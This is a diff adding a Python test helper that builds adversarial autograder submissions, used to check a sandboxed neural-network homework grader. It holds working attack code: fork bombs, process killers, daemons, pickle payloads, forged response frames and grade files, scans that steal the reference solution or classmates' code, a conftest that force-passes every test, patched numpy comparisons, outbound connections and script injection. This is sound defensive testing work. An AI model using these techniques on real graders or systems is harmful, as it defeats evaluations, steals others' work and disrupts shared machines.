@@ -1,0 +1,785 @@
+"""Attack submissions for tests/test_adversarial.py, each on top of the honest zeros submission.
+
+`tests/attacks/zeros/` holds the zeros submission as real files: every graded function
+returns zeros of the right shape. An attack is a few lines *appended* to one or more of
+those modules (a later `def` replaces the zeros one; module-level code runs at import),
+plus optional extra files and symlinks. `build()` writes an attack's folder.
+
+Destructive code (forks, kills, writes, daemons) runs only when `_armed()`: as the
+unprivileged uid (60000 + slot) a submission gets when the grader runs as root, so these
+sources do nothing if imported anywhere else. test_adversarial.py grades them only where
+the grader sandboxes with bubblewrap.
+
+Placeholders filled in at test time:
+    @MARK@      marker string in process names and report strings (MARK)
+    @PWNED@     path prefix of host files a pickle or conftest would create if the grader ran them
+    @PORT@      a TCP port on 127.0.0.1 (and abstract Unix socket @MARK@_@PORT@) the test listens on
+    @CLASS@     the class folder, @NAMES@ every student id in it, @SELF@ this student's id
+    @SOLUTIONS@ the reference solutions folder
+
+`reasons` maps a rubric id to substrings that id's feedback must contain: the reason the
+attacked call failed (or, for an attack that reports what it achieved through a string in
+REPRESENTABLE, the report proving it achieved nothing).
+"""
+from __future__ import annotations
+
+import os
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+
+MARK = "NNB_ATTACK"
+PWNED = "/tmp/NNB_PWNED"
+ZEROS = Path(__file__).resolve().parent / "attacks" / "zeros"
+MODULES = ("step_network.py", "xor_relu.py", "backprop.py")
+
+PRELUDE = '''
+
+# ---- attack (appended to the zeros module) ----
+import os as _os, sys as _sys
+
+
+def _armed():
+    """Only as a sandboxed submission's unprivileged uid (the grader runs as root)."""
+    return _os.getuid() >= 60000
+'''
+
+
+@dataclass(frozen=True)
+class Attack:
+    append: dict = field(default_factory=dict)  # module file -> source appended to the zeros module
+    extra: dict = field(default_factory=dict)  # other file -> full source
+    symlinks: dict = field(default_factory=dict)  # name in the folder -> link target
+    reasons: dict = field(default_factory=dict)  # rubric id -> substrings its feedback must contain
+
+
+def _src(text: str) -> str:
+    return textwrap.dedent(text).strip("\n") + "\n"
+
+
+def _shared(text: str) -> str:
+    """A snippet to concatenate with an attack's body (indented as the bodies are below)."""
+    return textwrap.indent(_src(text), " " * 12) + "\n\n"
+
+
+# Snippets shared by several attacks.
+_PICKLE = _shared('''
+    class _Pickle:
+        """Unpickling this creates a file: proof that someone unpickled it."""
+        def __reduce__(self):
+            return (open, ("@PWNED@_" + type(self).__name__ + "_@SELF@", "w"))
+''')
+_RESP_FDS = _shared('''
+    def _response_fds():
+        """Every pipe this process may write to except stdout and stderr (the response pipe among them)."""
+        import fcntl, stat
+        fds = []
+        for name in _os.listdir("/proc/self/fd"):
+            fd = int(name)
+            try:
+                if fd > 2 and stat.S_ISFIFO(_os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & _os.O_WRONLY:
+                    fds.append(fd)
+            except OSError:
+                pass
+        return fds
+
+
+    def _frame(header: bytes, blobs=()):
+        import struct
+        body = struct.pack(">I", len(header)) + header + struct.pack(">I", len(blobs))
+        for blob in blobs:
+            body += struct.pack(">I", len(blob)) + blob
+        return struct.pack(">I", len(body)) + body
+''')
+_DAEMON = _shared('''
+    def _daemon(path, argv):
+        """Double fork, new session, all fds closed, exec: a daemon outside our process group."""
+        pid = _os.fork()
+        if pid == 0:
+            try:
+                _os.setsid()
+                if _os.fork() == 0:
+                    _os.closerange(0, 1024)
+                    _os.execv(path, argv)
+            finally:
+                _os._exit(0)
+        _os.waitpid(pid, 0)
+''')
+
+_STEAL = _shared('''
+    _STOLEN = []
+
+
+    def _steal(filename, works, budget):
+        """A working copy of `filename` from outside our own folder: the reference, a sample, a classmate."""
+        import importlib.util, time
+        deadline = time.monotonic() + budget
+        own = _os.path.realpath(_os.path.dirname(_os.path.abspath(__file__)))
+        folders = ["@SOLUTIONS@", "/work/main/solutions", "/work/main/examples/submissions/ada"]
+        folders += [_os.path.join("@CLASS@", n) for n in @NAMES@ if n != "@SELF@"]
+        folders += [_os.path.join(own, ".."), "/tmp", "/root", "/home"]
+        found = [f for f in folders if _os.path.isfile(_os.path.join(f, filename))]
+        for top in ("/work", "/root", "/home", "/tmp", "/opt", "/srv", "/mnt", "/var", "/"):
+            for folder, dirs, files in _os.walk(top):
+                if time.monotonic() > deadline:
+                    break
+                if folder in ("/proc", "/sys", "/dev", "/usr/share", "/usr/include"):
+                    dirs[:] = []
+                elif filename in files:
+                    found.append(folder)
+        found = [f for i, f in enumerate(found) if f not in found[:i] and _os.path.realpath(f) != own]
+        for folder in found:
+            try:
+                path = _os.path.join(folder, filename)
+                spec = importlib.util.spec_from_file_location("_nnb_stolen_%d" % len(_STOLEN), path)
+                module = importlib.util.module_from_spec(spec)
+                spec.loader.exec_module(module)
+                if works(module):
+                    _STOLEN.append(path)
+                    return module, found
+            except BaseException:
+                pass
+        return None, found
+''')
+
+ATTACKS: dict[str, Attack] = {
+    # -- time ---------------------------------------------------------------------------------
+    "loop_call": Attack(
+        append={"backprop.py": '''
+            def softmax(z):
+                while True:
+                    pass
+        '''},
+        reasons={"q3.softmax": ["time limit per call"]}),
+    "loop_import": Attack(
+        append={"backprop.py": '''
+            while True:
+                pass
+        '''},
+        reasons={"q3.softmax": ["backprop.py could not be imported", "time limit per call"],
+                 "q3.grad_W": ["backprop.py could not be imported"]}),
+    "loop_signals_ignored": Attack(
+        append={"xor_relu.py": '''
+            import signal as _signal
+
+
+            def relu(z):
+                for sig in ("SIGTERM", "SIGINT", "SIGALRM", "SIGXCPU", "SIGHUP", "SIGUSR1", "SIGUSR2",
+                            "SIGVTALRM", "SIGPROF", "SIGPIPE", "SIGQUIT", "SIGTSTP"):
+                    _signal.signal(getattr(_signal, sig), _signal.SIG_IGN)
+                while True:
+                    try:
+                        while True:
+                            pass
+                    except BaseException:
+                        pass
+        '''},
+        reasons={"q2.relu": ["time limit per call"]}),
+    "sleep": Attack(
+        append={"backprop.py": '''
+            import time as _time
+
+
+            def cross_entropy(y, y_hat):
+                _time.sleep(1000)
+        '''},
+        reasons={"q3.cross_entropy": ["time limit per call"]}),
+    # -- memory and output ------------------------------------------------------------------
+    "memory_numpy": Attack(
+        append={"step_network.py": '''
+            def step(z):
+                return np.ones(10**10)
+        '''},
+        reasons={"q1.step": ["MemoryError"]}),
+    "memory_bytearray": Attack(
+        append={"xor_relu.py": '''
+            def relu(z):
+                return bytearray(40 * 2**30)
+        '''},
+        reasons={"q2.relu": ["MemoryError"]}),
+    "memory_grow": Attack(
+        append={"backprop.py": '''
+            def softmax(z):
+                hog = []
+                while True:
+                    hog.append(np.empty(128 << 20, dtype=np.uint8))  # address space, 128 MiB at a time
+        '''},
+        reasons={"q3.softmax": ["MemoryError"]}),
+    "print_flood": Attack(
+        append={"step_network.py": '''
+            def step_network(x, w0, w, b, v):
+                chunk = "@MARK@ flood " * 80000  # ~1 MB
+                for _ in range(200):
+                    _sys.stdout.write(chunk)
+                _sys.stdout.flush()
+        ''', "xor_relu.py": '''
+            def relu_network(x, W1, b1, w2, b2):
+                chunk = b"@MARK@ flood " * 80000
+                for _ in range(200):
+                    _os.write(2, chunk)
+        '''},
+        reasons={"q1.step_network": ["output limit"], "q2.relu_network": ["output limit"]}),
+    "huge_result": Attack(
+        append={"xor_relu.py": '''
+            def relu(z):
+                return np.zeros(2_000_000)  # 16 MB
+
+
+            def relu_network(x, W1, b1, w2, b2):
+                deep = [0.0]
+                for _ in range(100):
+                    deep = [deep]
+                return deep
+        '''},
+        reasons={"q2.relu": ["returned more than 4096 KiB"], "q2.relu_network": ["nested more than 32 levels"]}),
+    # -- processes ---------------------------------------------------------------------------
+    "fork_bomb": Attack(
+        append={"step_network.py": '''
+            def step_network(x, w0, w, b, v):
+                while _armed():
+                    try:
+                        _os.fork()
+                    except OSError:
+                        pass
+                return np.zeros(np.asarray(x).reshape(-1).shape)
+        '''},
+        reasons={"q1.step_network": ["time limit per call"]}),
+    "fork_bomb_setsid": Attack(
+        append={"xor_relu.py": '''
+            def relu_network(x, W1, b1, w2, b2):
+                while _armed():
+                    try:
+                        if _os.fork() == 0:
+                            _os.setsid()  # out of the process group the grader kills
+                    except OSError:
+                        pass
+                return np.zeros(np.asarray(x).reshape(-1, 2).shape[0])
+        '''},
+        reasons={"q2.relu_network": ["time limit per call"]}),
+    "daemon": Attack(
+        append={"backprop.py": _DAEMON + '''
+            _SPAWNED = []
+
+
+            def forward(x, W, b1, U, b2):
+                if _armed() and not _SPAWNED:
+                    _SPAWNED.append(1)
+                    _daemon("/bin/sleep", ["@MARK@_sleep", "1000"])  # argv[0] is the marker
+                    _daemon(_sys.executable, [_sys.executable, "-c", "import time\\nwhile True: time.sleep(1000)",
+                                              "@MARK@_pydaemon"])
+                return np.zeros(np.asarray(W).shape[0]), np.zeros(np.asarray(U).shape[0])
+        '''},
+        reasons={"q3.forward": ["wrong in"]}),
+    "kill_parents": Attack(
+        append={"step_network.py": '''
+            import signal as _signal
+
+
+            def step(z):
+                if _armed():
+                    me = _os.getpid()
+                    for target in (_os.getppid(), 1, -1):
+                        try:
+                            _os.kill(target, _signal.SIGKILL)
+                        except OSError:
+                            pass
+                    try:
+                        _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL)
+                    except OSError:
+                        pass
+                    for name in _os.listdir("/proc"):
+                        if name.isdigit() and int(name) != me:
+                            try:
+                                _os.kill(int(name), _signal.SIGKILL)
+                            except OSError:
+                                pass
+                return np.zeros_like(z, dtype=float)
+        '''},
+        reasons={"q3.softmax": ["is wrong in"]}),  # grading went on normally afterwards
+    # -- leaving the process ------------------------------------------------------------------
+    "sys_exit": Attack(
+        append={"step_network.py": '''
+            def step(z):
+                _sys.exit(0)
+        '''},
+        reasons={"q1.step": ["SystemExit"]}),
+    "os_exit": Attack(
+        append={"xor_relu.py": '''
+            def relu(z):
+                _os._exit(3)
+        '''},
+        reasons={"q2.relu": ["exit code 3", "do not call sys.exit or os._exit"]}),
+    "keyboard_interrupt": Attack(
+        append={"backprop.py": '''
+            def softmax(z):
+                raise KeyboardInterrupt
+        '''},
+        reasons={"q3.softmax": ["raised KeyboardInterrupt"]}),
+    "system_exit": Attack(
+        append={"backprop.py": '''
+            def cross_entropy(y, y_hat):
+                raise SystemExit("@MARK@ bye")
+        '''},
+        reasons={"q3.cross_entropy": ["raised SystemExit"]}),
+    "generator_exit": Attack(
+        append={"backprop.py": '''
+            def forward(x, W, b1, U, b2):
+                raise GeneratorExit
+        '''},
+        reasons={"q3.forward": ["raised GeneratorExit"]}),
+    "segfault": Attack(
+        append={"xor_relu.py": '''
+            def relu_network(x, W1, b1, w2, b2):
+                import ctypes
+                return ctypes.string_at(0)
+        '''},
+        reasons={"q2.relu_network": ["segmentation fault"]}),
+    # -- lying about the answer ---------------------------------------------------------------
+    "patch_numpy": Attack(
+        append={"backprop.py": '''
+            import math as _math
+            import numpy.testing as _npt
+
+            np.allclose = lambda *a, **k: True
+            np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
+            np.array_equal = np.array_equiv = lambda *a, **k: True
+            np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
+            np.testing.assert_array_almost_equal = np.testing.assert_almost_equal = lambda *a, **k: None
+            _math.isclose = lambda *a, **k: True
+        '''},
+        reasons={"q3.softmax": ["is wrong in"], "q3.grad_b2": ["is wrong in"]}),
+    "patch_builtins": Attack(
+        append={"step_network.py": '''
+            import builtins as _builtins
+
+            _builtins.abs = lambda x: 0
+            _builtins.all = _builtins.any = _builtins.callable = lambda *a: True
+            _builtins.isinstance = lambda *a: True
+            _builtins.issubclass = lambda *a: True
+        '''},
+        reasons={"q1.step": ["step_network.py could not be imported"]}),
+    "ndarray_subclass": Attack(
+        append={"backprop.py": '''
+            class _Liar(np.ndarray):
+                def __eq__(self, other):
+                    return True
+
+                def __ne__(self, other):
+                    return False
+
+                def __array_function__(self, func, types, args, kwargs):
+                    return True
+
+                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+                    return True
+
+                def __reduce__(self):
+                    return (open, ("@PWNED@_liar_@SELF@", "w"))
+
+
+            def softmax(z):
+                return np.zeros(np.asarray(z).shape[0]).view(_Liar)
+
+
+            def backprop(x, y, W, b1, U, b2):
+                return {k: np.zeros(np.shape(v)).view(_Liar) for k, v in (("W", W), ("b1", b1), ("U", U), ("b2", b2))}
+        '''},
+        reasons={"q3.softmax": ["is wrong in"], "q3.grad_U": ["is wrong in"]}),
+    "eq_always_true": Attack(
+        append={"backprop.py": '''
+            class _AlwaysEqual:
+                def __eq__(self, other):
+                    return True
+
+                def __ne__(self, other):
+                    return False
+
+                __hash__ = object.__hash__
+
+
+            class _EqualFloat(float):
+                def __eq__(self, other):
+                    return True
+
+                __hash__ = float.__hash__
+
+
+            def softmax(z):
+                return _AlwaysEqual()
+
+
+            def cross_entropy(y, y_hat):
+                return _EqualFloat(0.0)
+        '''},
+        reasons={"q3.softmax": ["is not numbers, arrays"], "q3.cross_entropy": ["is not numbers, arrays"]}),
+    "pickle_return": Attack(
+        append={"backprop.py": _PICKLE + '''
+
+            def softmax(z):
+                return _Pickle()
+
+
+            def cross_entropy(y, y_hat):
+                return np.array([_Pickle()], dtype=object)
+        '''},
+        reasons={"q3.softmax": ["is not numbers, arrays"], "q3.cross_entropy": ["allow_pickle"]}),
+    "forged_frame": Attack(
+        append={"backprop.py": _PICKLE + _RESP_FDS + '''
+
+            def softmax(z):
+                import io, json
+                buf = io.BytesIO()
+                np.save(buf, np.array([_Pickle()], dtype=object), allow_pickle=True)
+                forged = _frame(json.dumps({"ok": {"$nd": 0}}).encode(), [buf.getvalue()])
+                for fd in _response_fds():
+                    try:
+                        _os.write(fd, forged)
+                    except OSError:
+                        pass
+                return np.zeros(np.asarray(z).shape[0])
+        '''},
+        reasons={"q3.softmax": ["not plain"]}),
+    "forged_deep_json": Attack(
+        append={"backprop.py": _RESP_FDS + '''
+
+            def cross_entropy(y, y_hat):
+                forged = _frame(b"[" * 200000 + b"]" * 200000)  # deeper than any JSON parser recurses
+                for fd in _response_fds():
+                    try:
+                        _os.write(fd, forged)
+                    except OSError:
+                        pass
+                return 0.0
+        '''},
+        reasons={"q3.cross_entropy": ["not plain"]}),
+    # -- looking for answers ----------------------------------------------------------------
+    "walk_reference": Attack(
+        append={"step_network.py": _STEAL + '''
+            _ref, _found = _steal("step_network.py", lambda m: (float(np.asarray(m.step(0.0))) == 1.0
+                                                                and float(np.asarray(m.step(-1.0))) == 0.0), 0.6)
+            if _ref is not None:
+                step, step_network = _ref.step, _ref.step_network
+                indicator_params, piecewise_constant_params = _ref.indicator_params, _ref.piecewise_constant_params
+            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ found: %r" % _found)
+        ''', "xor_relu.py": _STEAL + '''
+            _ref, _found = _steal("xor_relu.py", lambda m: (float(np.asarray(m.relu(-1.0))) == 0.0
+                                                            and float(np.asarray(m.relu(2.0))) == 2.0), 0.3)
+            if _ref is not None:
+                relu, relu_network, xor_weights = _ref.relu, _ref.relu_network, _ref.xor_weights
+        ''', "backprop.py": _STEAL + '''
+            _ref, _found = _steal("backprop.py", lambda m: (
+                np.allclose(m.softmax(np.array([1000.0, -1000.0])), [1.0, 0.0]) and callable(m.backprop)), 0.3)
+            if _ref is not None:
+                softmax, cross_entropy, forward, backprop = _ref.softmax, _ref.cross_entropy, _ref.forward, _ref.backprop
+        '''},
+        reasons={"q1.representable": ["@MARK@ found: []"]}),
+    "frames_heap": Attack(
+        append={"backprop.py": '''
+            import gc as _gc
+
+
+            def _arrays(value, depth=0):
+                if isinstance(value, np.ndarray):
+                    yield value
+                elif depth < 4 and isinstance(value, (list, tuple)):
+                    for item in value:
+                        yield from _arrays(item, depth + 1)
+                elif depth < 4 and isinstance(value, dict):
+                    for item in list(value.values()):
+                        yield from _arrays(item, depth + 1)
+
+
+            def _loot(shape, inputs):
+                """Any array in the caller's frames or on the heap with the answer's shape that is not an input."""
+                candidates = []
+                frame = _sys._getframe(2)
+                while frame is not None:
+                    candidates += list(_arrays(dict(frame.f_locals)))
+                    frame = frame.f_back
+                for obj in _gc.get_objects():
+                    if isinstance(obj, (dict, list, tuple)):
+                        candidates += [a for a in _arrays(obj, 3)]
+                    elif isinstance(obj, np.ndarray):
+                        candidates.append(obj)
+                for a in candidates:
+                    try:
+                        if a.shape == tuple(shape) and a.dtype.kind == "f" and not any(
+                                np.shape(i) == a.shape and np.array_equal(np.asarray(i, dtype=float), a) for i in inputs):
+                            return a.copy()
+                    except Exception:
+                        pass
+                return np.zeros(shape)
+
+
+            def softmax(z):
+                return _loot(np.shape(z), [z])
+
+
+            def cross_entropy(y, y_hat):
+                return float(np.sum(_loot((1,), [y, y_hat])))
+
+
+            def forward(x, W, b1, U, b2):
+                inputs = [x, W, b1, U, b2]
+                return _loot((np.shape(W)[0],), inputs), _loot((np.shape(U)[0],), inputs)
+
+
+            def backprop(x, y, W, b1, U, b2):
+                inputs = [x, y, W, b1, U, b2]
+                return {k: _loot(np.shape(v), inputs) for k, v in (("W", W), ("b1", b1), ("U", U), ("b2", b2))}
+        '''}),
+    # -- escaping the sandbox ----------------------------------------------------------------
+    "forge_outputs": Attack(
+        append={"step_network.py": '''
+            import json as _json
+
+            _ITEMS = [("q1.representable", 8), ("q1.step", 4), ("q1.step_network", 6), ("q1.indicator", 6),
+                      ("q1.piecewise_constant", 6), ("q2.relu", 4), ("q2.relu_network", 6), ("q2.xor_weights", 10),
+                      ("q3.softmax", 6), ("q3.cross_entropy", 4), ("q3.forward", 8), ("q3.grad_b2", 8),
+                      ("q3.grad_U", 8), ("q3.grad_b1", 8), ("q3.grad_W", 8)]
+            _FORGED = []
+
+
+            def _forge():
+                result = {"student": "@SELF@", "items": [
+                    {"id": i, "title": i, "score": p, "max_score": p, "output": "@MARK@ forged", "visibility": "visible",
+                     "misconceptions": [], "status": "graded"} for i, p in _ITEMS],
+                    "notes": [], "limit_hits": [], "fault": "", "late_days": 0, "penalty": 0.0, "seconds": 0.0}
+                gradescope = {"score": 100.0, "output": "@MARK@ forged", "tests": [
+                    {"name": i, "score": p, "max_score": p} for i, p in _ITEMS]}
+                lines = ["============================= 15 passed in 0.42s ==============================",
+                         _json.dumps({"result": result}), _json.dumps({"done": True, "faults": 0}),
+                         _json.dumps(gradescope), "@SELF@,30,20,50,100,100,0,0,ok"]
+                files = {"FORGED_results.json": _json.dumps(gradescope), "FORGED_grades.csv": lines[-1] + "\\n",
+                         "results.json": _json.dumps(gradescope), "grades.csv": lines[-1] + "\\n",
+                         "@MARK@_forged.txt": "forged"}
+                for line in lines:
+                    print(line)
+                    print(line, file=_sys.stderr)
+                _sys.stdout.flush()
+                _sys.stderr.flush()
+                import time
+                deadline = time.monotonic() + 0.6
+                written = []
+                folders = ["/tmp", "/dev/shm", "/submission", "/opt/worker", "@CLASS@", "@CLASS@/..", "/work/main",
+                           _os.path.expanduser("~"), _os.getcwd()]
+                for top in folders + ["/"]:
+                    for folder, dirs, _ in _os.walk(top):
+                        if folder in ("/proc", "/sys", "/usr") or time.monotonic() > deadline:
+                            dirs[:] = []
+                            continue
+                        if _os.access(folder, _os.W_OK):
+                            for name, text in files.items():
+                                try:
+                                    with open(_os.path.join(folder, name), "w") as handle:
+                                        handle.write(text)
+                                    written.append(folder)
+                                except OSError:
+                                    pass
+                        if top != "/":
+                            dirs[:] = []
+                return sorted(set(written))
+
+
+            def step(z):
+                if _armed() and not _FORGED:
+                    _FORGED.append(_forge())
+                return np.zeros_like(z, dtype=float)
+        '''}),
+    "overwrite_others": Attack(
+        append={"step_network.py": '''
+            def _overwrite():
+                """Append a comment line (harmless in .py and YAML, and it marks the file) to every file we
+                should never be able to write, and create files where we should never be able to."""
+                import numpy
+                site = _os.path.dirname(_os.path.dirname(numpy.__file__))
+                project = ["@SOLUTIONS@/backprop.py", "@SOLUTIONS@/step_network.py", "/work/main/config.yaml",
+                           "/work/main/autograder/hidden/test_q3.py", "/opt/worker/main.py", "/opt/worker/wire.py",
+                           numpy.__file__, _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "backprop.py")]
+                classmates = [_os.path.join(base, n, m) for base in ("@CLASS@", "..", "/submission/..", "/tmp")
+                              for n in @NAMES@ if n != "@SELF@" for m in ("backprop.py", "step_network.py")]
+                created = [_os.path.join(site, "@MARK@_planted.pth"), "@SOLUTIONS@/@MARK@_planted.py",
+                           "@CLASS@/@MARK@_planted.py", "/work/main/@MARK@_planted.py"]
+                written = []
+                for path in project + classmates:
+                    if _os.path.isfile(path):
+                        try:
+                            with open(path, "a") as handle:
+                                handle.write("\\n# @MARK@ was here\\n")
+                            written.append(path)
+                        except OSError:
+                            pass
+                for path in created:
+                    try:
+                        with open(path, "x") as handle:
+                            handle.write("# @MARK@ planted\\n")
+                        written.append(path)
+                    except OSError:
+                        pass
+                return written
+
+
+            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ wrote: %r" % (_overwrite() if _armed() else "unarmed"))
+        '''},
+        reasons={"q1.representable": ["@MARK@ wrote: []"]}),
+    "conftest_ini": Attack(
+        extra={"conftest.py": _src('''
+            """If the grader ever imported this, it would force-pass every test and leave a marker file."""
+            try:
+                open("@PWNED@_conftest_@SELF@", "w").write("a submission's conftest.py was imported\\n")
+            except OSError:
+                pass
+            import pytest
+
+
+            @pytest.hookimpl(hookwrapper=True)
+            def pytest_runtest_makereport(item, call):
+                outcome = yield
+                report = outcome.get_result()
+                report.outcome, report.longrepr = "passed", None
+
+
+            def pytest_collection_modifyitems(session, config, items):
+                items[:] = []
+        '''), "sitecustomize.py": _src('''
+            open("@PWNED@_sitecustomize_@SELF@", "w").write("a submission's sitecustomize.py was imported\\n")
+        '''), "pytest.ini": _src('''
+            [pytest]
+            addopts = -p conftest --co
+            python_files = *.py
+            testpaths = .
+        '''), "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n"}),
+    "network": Attack(
+        append={"step_network.py": '''
+            def _connect():
+                import socket
+                connected = []
+                for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("1.1.1.1", 53)),
+                                        (socket.AF_INET, ("8.8.8.8", 443)), (socket.AF_UNIX, "\\0@MARK@_@PORT@")):
+                    sock = socket.socket(family, socket.SOCK_STREAM)
+                    sock.settimeout(0.2)
+                    try:
+                        sock.connect(address)
+                        sock.sendall(b"@MARK@ hello")
+                        connected.append(str(address))
+                    except OSError:
+                        pass
+                    finally:
+                        sock.close()
+                return connected
+
+
+            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ connected: %r" % _connect())
+        '''},
+        reasons={"q1.representable": ["@MARK@ connected: []"]}),
+    "html_injection": Attack(
+        append={"step_network.py": '''
+            _HTML = "<script>@MARK@()</script><img src=x onerror=@MARK@()><a href='javascript:@MARK@()'>x</a>"
+            REPRESENTABLE = dict(REPRESENTABLE, linear=_HTML)
+
+
+            def step(z):
+                raise ValueError(_HTML)
+        '''}),
+    # -- submission content that points elsewhere --------------------------------------------
+    "symlink_solutions": Attack(symlinks={"nn_backprop": "@SOLUTIONS@"}),
+    "symlink_classmate": Attack(symlinks={"nn_backprop": "../honest_sol"}),
+    "symlink_file": Attack(symlinks={"backprop.py": "@SOLUTIONS@/backprop.py"},
+                           reasons={"q3.softmax": ["backprop.py is missing"]}),
+}
+
+# Attacks on what one submission leaves behind for the next one graded in the same slot.
+# Graded in their own class with --jobs 1, so the order is the sorted ids, all in one slot.
+CARRYOVER: dict[str, Attack] = {
+    "c1_plant": Attack(
+        append={"step_network.py": _DAEMON + '''
+
+            def _plant():
+                """Leave files the child's cleanup cannot remove, and a daemon, for whoever comes next."""
+                for base in ("/tmp", "/dev/shm"):
+                    try:
+                        with open(_os.path.join(base, "@MARK@_file"), "w") as handle:
+                            handle.write("secret of @SELF@")
+                        locked = _os.path.join(base, "@MARK@_dir", "locked")
+                        _os.makedirs(locked, exist_ok=True)
+                        with open(_os.path.join(locked, "answers"), "w") as handle:
+                            handle.write("secret of @SELF@")
+                        _os.chmod(locked, 0o555)
+                        _os.symlink("/etc", _os.path.join(base, "@MARK@_link"))
+                    except OSError:
+                        pass
+                _daemon("/bin/sleep", ["@MARK@_carryover", "1000"])
+
+
+            if _armed():
+                _plant()
+        '''}),
+    "c2_observer": Attack(
+        append={"step_network.py": '''
+            def _observe():
+                seen = []
+                for base in ("/tmp", "/dev/shm"):
+                    try:
+                        seen += [_os.path.join(base, n) for n in _os.listdir(base) if "@MARK@" in n]
+                    except OSError:
+                        pass
+                procs = []
+                for pid in _os.listdir("/proc"):
+                    try:
+                        with open("/proc/%s/cmdline" % pid, "rb") as handle:
+                            cmd = handle.read().replace(b"\\0", b" ").decode(errors="replace")
+                    except OSError:
+                        continue
+                    if "@MARK@" in cmd:
+                        procs.append(cmd.strip())
+                return "@MARK@ saw: %r procs: %r" % (sorted(seen), procs)
+
+
+            REPRESENTABLE = dict(REPRESENTABLE, linear=_observe())
+        '''},
+        reasons={"q1.representable": ["@MARK@ saw: [] procs: []"]}),
+    "c3_poison": Attack(
+        append={"step_network.py": '''
+            def step(z):
+                """Take every scratch folder name later children will ask for: ours is <prefix><n>, so <prefix>1..."""
+                if _armed():
+                    here = _os.getcwd()
+                    prefix = here.rstrip("0123456789")
+                    for i in range(1, 3000):
+                        try:
+                            open(prefix + str(i), "x").close()  # a file: rmtree cannot remove it, mkdir then fails
+                        except OSError:
+                            pass
+                return np.zeros_like(z, dtype=float)
+        '''}),
+}
+
+
+def fill(text: str, values: dict) -> str:
+    for key, value in values.items():
+        text = text.replace(f"@{key}@", value)
+    return text
+
+
+def zeros_files() -> dict[str, str]:
+    return {name: (ZEROS / name).read_text() for name in MODULES}
+
+
+def build(folder: Path, student: str, attack: Attack, values: dict) -> None:
+    """Write one attack's submission folder: the zeros modules with the attack appended, extras, symlinks."""
+    values = dict(values, SELF=student)
+    folder.mkdir(parents=True)
+    files = zeros_files()
+    for name, source in attack.append.items():
+        files[name] += fill(PRELUDE + "\n\n" + _src(source), values)
+    for name, source in attack.extra.items():
+        files[name] = fill(source, values)
+    for name, text in files.items():
+        if name not in attack.symlinks:
+            (folder / name).write_text(text)
+    for name, target in attack.symlinks.items():
+        os.symlink(fill(target, values), folder / name)
+
+
+def reasons(attack: Attack, values: dict) -> dict[str, list[str]]:
+    return {item: [fill(s, values) for s in subs] for item, subs in attack.reasons.items()}
